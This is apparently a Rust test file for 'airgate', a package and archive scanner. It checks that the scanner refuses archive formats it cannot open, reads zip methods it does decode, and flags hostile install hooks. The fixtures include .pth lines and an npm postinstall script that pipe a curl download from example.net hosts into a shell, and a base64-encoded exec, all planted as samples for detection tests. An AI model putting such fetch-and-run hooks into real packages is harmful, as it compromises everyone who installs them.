//! Fail closed: formats airgate does not open (7z, RAR 4 and 5, squashfs, ISO 9660, CAB,
//! MSI/OLE, XAR), encrypted zip members and zip members in a method it does not decode are
//! refused with `archive.uninspectable` (high) naming the format, and listed as not
//! inspected; a policy may set another severity per format. Zip members in methods it does
//! decode are read. Python `.pth` files and npm lifecycle scripts are inspected as code.

mod formats_support;

use formats_support::*;
use std::path::Path;
use std::process::Command as Proc;

fn refused(v: &serde_json::Value) -> Vec<(String, String)> {
    v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["rule"] == "archive.uninspectable")
        .map(|f| {
            (
                f["severity"].as_str().unwrap_or("").to_string(),
                f["message"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

fn assert_refused(what: &str, p: &Path, name: &str) {
    let (code, v) = scan(p, &[]);
    assert_eq!(code, 1, "{what}: {}", v["findings"]);
    let r = refused(&v);
    assert!(
        r.iter()
            .any(|(s, m)| s == "high" && m.starts_with(&format!("{name}:"))),
        "{what}: {r:?}"
    );
    assert!(
        v["coverage"]["not_inspected"]
            .to_string()
            .contains("archive.uninspectable"),
        "{what}: {}",
        v["coverage"]
    );
}

/// Archives and images built by their real tools.
#[test]
fn real_archives_airgate_does_not_open_are_refused() {
    let dir = tempfile::tempdir().expect("tmp");
    let src = tree(dir.path(), false);
    let d = dir.path();
    run(Proc::new("7z")
        .args(["a", "-bd", "-y"])
        .arg(d.join("a.7z"))
        .arg(&src));
    assert_refused("7z", &d.join("a.7z"), "7z");
    run(Proc::new("mksquashfs")
        .arg(&src)
        .arg(d.join("a.sqfs"))
        .args(["-quiet", "-noappend"]));
    assert_refused("squashfs", &d.join("a.sqfs"), "squashfs");
    run(Proc::new("genisoimage")
        .args(["-quiet", "-o"])
        .arg(d.join("a.iso"))
        .arg(&src));
    assert_refused("iso", &d.join("a.iso"), "iso9660");
    run(Proc::new("gcab")
        .args(["-c", "-z"])
        .arg(d.join("a.cab"))
        .arg(src.join("etc/app/config.ini")));
    assert_refused("cab", &d.join("a.cab"), "cab");
}

/// Formats with no free tool to write them here: their documented headers.
#[test]
fn rar_ole_and_xar_headers_are_refused_and_near_misses_are_not() {
    let dir = tempfile::tempdir().expect("tmp");
    let d = dir.path();
    let mut body = vec![0u8; 64];
    body.extend_from_slice(b"CMT some stored member text");
    for (name, magic) in [
        ("rar4", &b"Rar!\x1a\x07\x00"[..]),
        ("rar5", &b"Rar!\x1a\x07\x01\x00"[..]),
        ("ole", &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..]),
        ("xar", &b"xar!\x00\x1c\x00\x01"[..]),
    ] {
        let p = d.join(format!("file.{name}"));
        let mut data = magic.to_vec();
        data.extend_from_slice(&body);
        write(&p, &data);
        assert_refused(name, &p, name);
    }
    // a text that merely starts with the same letters is not refused
    let p = d.join("notes.txt");
    write(&p, "Rar! is what the cat said. xar! 7z is a tool name.\n");
    let (code, v) = scan(&p, &[]);
    assert_eq!(code, 0, "{}", v["findings"]);
    assert!(refused(&v).is_empty());
}

#[test]
fn a_policy_sets_the_severity_per_refused_format() {
    let dir = tempfile::tempdir().expect("tmp");
    let src = tree(dir.path(), false);
    let iso = dir.path().join("a.iso");
    run(Proc::new("genisoimage")
        .args(["-quiet", "-o"])
        .arg(&iso)
        .arg(&src));
    let pol = dir.path().join("p.toml");
    write(&pol, "[inspect.uninspectable]\niso9660 = \"low\"\n");
    let (code, v) = scan(&iso, &["--policy", pol.to_str().expect("path")]);
    assert_eq!(code, 0, "{}", v["findings"]);
    assert_eq!(refused(&v).first().map(|r| r.0.as_str()), Some("low"));
    // other formats keep their severity
    let seven = dir.path().join("a.7z");
    run(Proc::new("7z")
        .args(["a", "-bd", "-y"])
        .arg(&seven)
        .arg(&src));
    let (code, _) = scan(&seven, &["--policy", pol.to_str().expect("path")]);
    assert_eq!(code, 1);
    // a name that is not a refused format is a configuration error
    write(&pol, "[inspect.uninspectable]\nzip = \"low\"\n");
    let out = assert_cmd::Command::cargo_bin("airgate")
        .expect("bin")
        .args([
            "scan",
            iso.to_str().expect("p"),
            "--policy",
            pol.to_str().expect("p"),
        ])
        .output()
        .expect("run");
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn zip_members_encrypted_or_in_methods_not_decoded_are_refused() {
    let dir = tempfile::tempdir().expect("tmp");
    let d = dir.path();
    let cfg = d.join("config.ini");
    write(&cfg, config(true));
    let enc = d.join("enc.zip");
    run(Proc::new("zip")
        .args(["-q", "-j", "-P", "secret"])
        .arg(&enc)
        .arg(&cfg));
    assert_refused("encrypted", &enc, "zip-encrypted");
    // bzip2 members are decoded (the key pair inside is found), so is deflate
    let bz = d.join("bz.zip");
    run(Proc::new("zip")
        .args(["-q", "-j", "-Z", "bzip2"])
        .arg(&bz)
        .arg(&cfg));
    let (code, v) = scan(&bz, &[]);
    assert_eq!(code, 1);
    assert!(refused(&v).is_empty(), "{:?}", refused(&v));
    assert!(findings(&v)
        .iter()
        .any(|(r, p, _)| r == "secret.aws-access-key-id" && p.ends_with("bz.zip!config.ini")));
    // method 98 (PPMd) is not decoded: the method field of a stored member is rewritten
    let plain = d.join("plain.zip");
    run(Proc::new("zip")
        .args(["-q", "-j", "-0"])
        .arg(&plain)
        .arg(&cfg));
    let mut z = std::fs::read(&plain).expect("read");
    let local = 8; // method in the local header
    z[local] = 98;
    let cen = z
        .windows(4)
        .rposition(|w| w == b"PK\x01\x02")
        .expect("central")
        + 10;
    z[cen] = 98;
    let ppmd = d.join("ppmd.zip");
    write(&ppmd, &z);
    assert_refused("ppmd", &ppmd, "zip-method");
}

/// A wheel's `.pth` file: an import line that executes code is high; the near misses real
/// packages ship (setuptools' distutils-precedence.pth, a path line) are not.
#[test]
fn pth_files_in_a_wheel() {
    let dir = tempfile::tempdir().expect("tmp");
    let d = dir.path();
    for (name, body, want) in [
        ("evil.pth", "import os; os.system('curl -s https://x.example.net/p | sh')\n", true),
        ("evil2.pth", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n", true),
        ("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n", false),
        ("app.pth", "/opt/app/lib\n", false),
    ] {
        let pth = d.join(name);
        write(&pth, body);
        let whl = d.join(format!("{name}-1.0-py3-none-any.whl"));
        run(Proc::new("zip").args(["-q", "-j"]).arg(&whl).arg(&pth));
        let (code, v) = scan(&whl, &[]);
        let f = findings(&v);
        let hit = f
            .iter()
            .any(|(r, p, s)| r == "python.pth-code-exec" && s == "high" && p.ends_with(&format!("!{name}")));
        assert_eq!(hit, want, "{name}: {f:#?}");
        if !want {
            assert_quiet(name, &v);
            assert_eq!(code, 0);
        }
    }
}

/// An npm tarball written by `npm pack`: a postinstall that pipes a download to a shell is
/// found at its script; a package whose only scripts are `test`/`build` stays quiet.
#[test]
fn npm_lifecycle_scripts_in_a_packed_tarball() {
    let dir = tempfile::tempdir().expect("tmp");
    for planted in [true, false] {
        let d = dir.path().join(format!("npm-{planted}"));
        let scripts = if planted {
            r#"{"postinstall": "curl -fsSL https://updates.example.net/i.sh | sh", "test": "node t.js"}"#
        } else {
            r#"{"test": "node t.js", "build": "tsc"}"#
        };
        write(
            &d.join("package.json"),
            format!(r#"{{"name": "app", "version": "1.0.0", "scripts": {scripts}}}"#),
        );
        write(&d.join("index.js"), "module.exports = 1;\n");
        let out = Proc::new("npm")
            .args(["pack", "--silent", "--pack-destination"])
            .arg(&d)
            .current_dir(&d)
            .env("npm_config_offline", "true")
            .output()
            .expect("npm pack: .ci/run installs npm");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let tgz = d.join("app-1.0.0.tgz");
        let (code, v) = scan(&tgz, &[]);
        if planted {
            assert_eq!(code, 1);
            let f = findings(&v);
            assert!(
                f.iter().any(|(r, p, _)| r == "reachback.shell-pipe-exec"
                    && p.ends_with("package/package.json!scripts/postinstall")),
                "{f:#?}"
            );
            assert!(f.iter().any(|(r, _, _)| r == "npm.install-script"));
        } else {
            assert_quiet("npm clean", &v);
        }
    }
}
